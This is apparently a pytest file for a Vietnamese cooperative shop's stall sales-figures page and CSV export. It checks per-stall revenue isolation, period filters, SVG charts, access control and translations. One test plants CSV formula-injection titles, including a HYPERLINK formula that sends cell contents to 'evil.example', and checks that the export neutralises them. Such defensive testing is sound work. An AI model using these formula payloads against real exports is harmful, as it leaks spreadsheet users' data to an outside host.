"""A member reads the stall's sales at /my-stall/figures/: revenue, orders and units of 7, 30 or 90 days as SVG charts
with the same numbers in tables, best sellers, most viewed products, and a CSV file. Only the stall's own share of
an order ever counts: never another stall's lines, money or the order's total."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from oscar.core.loading import get_class, get_model

from shop.fulfilment import services
from tests.factories import MembershipFactory, OrderFactory, ProductFactory, ShippingPolicyFactory, StorefrontFactory

Basket = get_model("basket", "Basket")
Order = get_model("order", "Order")
ProductRecord = get_model("analytics", "ProductRecord")
Selector = get_class("partner.strategy", "Selector")

URL = reverse("storefronts:sales-figures")
EXPORT = reverse("storefronts:sales-figures-export")


@pytest.fixture
def coffee_stall(db):
    stall = StorefrontFactory(name="Cà phê Cầu Đất")
    ShippingPolicyFactory(storefront=stall)
    return stall


@pytest.fixture
def honey_stall(db):
    stall = StorefrontFactory(name="Mật ong U Minh")
    ShippingPolicyFactory(storefront=stall)
    return stall


@pytest.fixture
def coffee(coffee_stall):
    return ProductFactory(storefront=coffee_stall, title="Cà phê Arabica", stock__price=120_000, stock=50)


@pytest.fixture
def honey(honey_stall):
    return ProductFactory(storefront=honey_stall, title="Mật ong rừng tràm", stock__price=185_000, stock=50)


@pytest.fixture
def member(client, coffee_stall):
    user = MembershipFactory(cooperative=coffee_stall.cooperative).user
    client.force_login(user)
    return user


def days_ago(days):
    return timezone.now() - timedelta(days=days)


def text(response):
    return response.content.decode().replace("\xa0", " ")


def test_an_order_mixing_two_stalls_counts_only_the_stalls_own_share(client, member, coffee, honey):
    order = OrderFactory(lines=[(coffee, 2), (honey, 3)])

    response = client.get(URL)

    assert response.status_code == 200
    page = text(response)
    totals = page[page.index('id="figures-totals"') : page.index('id="daily-heading"')]
    assert "240.000 ₫" in totals  # 2 × 120.000 of coffee
    assert 'id="total-units">2<' in totals
    assert 'id="total-orders">1<' in totals
    assert "Mật ong rừng tràm" not in page
    assert "555.000" not in page and "795.000" not in page  # honey's share, the goods of the whole order
    assert str(int(order.total_incl_tax)) not in page.replace(".", "")


def test_figures_count_the_period_asked_for_and_leave_cancelled_orders_out(client, member, coffee):
    OrderFactory(lines=[(coffee, 1)], date_placed=days_ago(0))
    OrderFactory(lines=[(coffee, 2)], date_placed=days_ago(20))
    OrderFactory(lines=[(coffee, 4)], date_placed=days_ago(60))
    cancelled = OrderFactory(lines=[(coffee, 8)], date_placed=days_ago(1))
    services.cancel_stall_order(cancelled.stall_orders.get(), member, "Khách đổi ý")

    week, month, quarter = (text(client.get(URL, {"days": days})) for days in (7, 30, 90))

    assert 'id="total-units">1<' in week and "120.000 ₫" in week
    assert 'id="total-units">3<' in month and "360.000 ₫" in month
    assert 'id="total-units">7<' in quarter and "840.000 ₫" in quarter


def test_the_charts_are_svg_drawn_on_the_server_with_a_table_of_the_same_numbers(client, member, coffee):
    OrderFactory(lines=[(coffee, 2)])

    page = text(client.get(URL, {"days": 7}))

    assert page.count('<svg viewBox="0 0 360 150"') == 2
    assert page.count("<rect ") >= 14  # a column per day, twice
    assert re.findall(r'<script src="([^"]+)"', page) == ["/static/themes/site.js"]  # the site's own, no chart library
    daily = page[page.index('id="daily-figures"') :]
    today = timezone.localdate().strftime("%d/%m/%Y")
    assert f'<th scope="row">{today}</th><td>1</td><td>2</td><td>240.000 ₫</td>' in daily
    top = page[page.index('id="top-products"') :]
    assert '<th scope="row">Cà phê Arabica</th><td>2</td><td>240.000 ₫</td>' in top


def test_best_sellers_and_most_viewed_products_are_the_stalls_own(client, member, coffee, honey, coffee_stall):
    tea = ProductFactory(storefront=coffee_stall, title="Trà Ô long", stock__price=90_000)
    OrderFactory(lines=[(coffee, 1), (tea, 3), (honey, 5)])
    ProductRecord.objects.update_or_create(product=coffee, defaults={"num_views": 40})
    ProductRecord.objects.update_or_create(product=honey, defaults={"num_views": 900})

    page = text(client.get(URL))

    top = page[page.index('id="top-products"') : page.index('id="views-heading"')]
    assert top.index("Trà Ô long") < top.index("Cà phê Arabica")  # 270.000 before 120.000
    viewed = page[page.index('id="most-viewed"') :]
    assert '<th scope="row">Cà phê Arabica</th><td>40</td>' in viewed
    assert "Mật ong" not in page and "900" not in viewed


def test_an_unknown_period_is_explained_and_the_last_30_days_are_shown(client, member, coffee):
    response = client.get(URL, {"days": "365"})

    assert response.status_code == 400
    assert "Khoảng thời gian không hợp lệ: chọn 7, 30 hoặc 90 ngày." in text(response)
    assert client.get(EXPORT, {"days": "abc"}).status_code == 400


def test_the_csv_export_has_the_stalls_own_figures_and_neutralises_formula_like_titles(
    client, member, coffee_stall, honey
):
    hostile = ProductFactory(storefront=coffee_stall, title='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    also = ProductFactory(storefront=coffee_stall, title="@SUM(1+1)", stock__price=10_000)
    minus = ProductFactory(storefront=coffee_stall, title="-2+3", stock__price=20_000)
    plus = ProductFactory(storefront=coffee_stall, title="+84 912", stock__price=30_000)
    tab = ProductFactory(storefront=coffee_stall, title="\tTab", stock__price=40_000)
    carriage = ProductFactory(storefront=coffee_stall, title="\rCR", stock__price=50_000)
    OrderFactory(lines=[(hostile, 1), (also, 1), (minus, 1), (plus, 1), (tab, 1), (honey, 1)])
    OrderFactory(lines=[(carriage, 1)])

    response = client.get(EXPORT, {"days": 7})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="doanh-so-')
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    titles = {row[0] for row in rows if row}
    assert {
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "'@SUM(1+1)",
        "'-2+3",
        "'+84 912",
        "'\tTab",
        "'\rCR",
    } <= titles
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert "Mật ong rừng tràm" not in body
    total = next(row for row in rows if row and row[0] == "Tổng cộng")
    assert total[1:] == ["2", "6", str(185_000 + 10_000 + 20_000 + 30_000 + 40_000 + 50_000)]


def test_a_visitor_logs_in_and_someone_without_a_stall_is_pointed_to_the_application(client, db):
    assert client.get(URL).status_code == 302
    assert client.get(EXPORT).status_code == 302
    client.force_login(MembershipFactory().user)
    response = client.get(URL)
    assert response.status_code == 403
    assert "Đăng ký gian hàng" in response.content.decode()
    assert client.get(EXPORT).status_code == 403


def test_the_figures_page_costs_the_same_queries_for_one_order_or_many(
    client, member, coffee, django_assert_max_num_queries
):
    OrderFactory(lines=[(coffee, 1)])
    client.get(URL, {"days": 90})  # the first request of a session makes its basket
    with django_assert_max_num_queries(30) as one_order:
        client.get(URL, {"days": 90})

    for age in range(0, 80, 4):
        OrderFactory(lines=[(coffee, 1)], date_placed=days_ago(age))
    with django_assert_max_num_queries(len(one_order)):
        response = client.get(URL, {"days": 90})

    assert 'id="total-orders">21<' in text(response)


@pytest.mark.parametrize(
    ("prefix", "words"),
    [
        ("/en/", ["Revenue by day", "Best sellers", "Download the figures (CSV)"]),
        ("/zh-hans/", ["每日收入", "畅销商品", "下载数据（CSV）"]),
    ],
)
def test_the_figures_speak_the_members_language(client, member, coffee, prefix, words):
    OrderFactory(lines=[(coffee, 1)])

    page = text(client.get(URL.replace("/vi/", prefix, 1)))

    for word in words:
        assert word in page
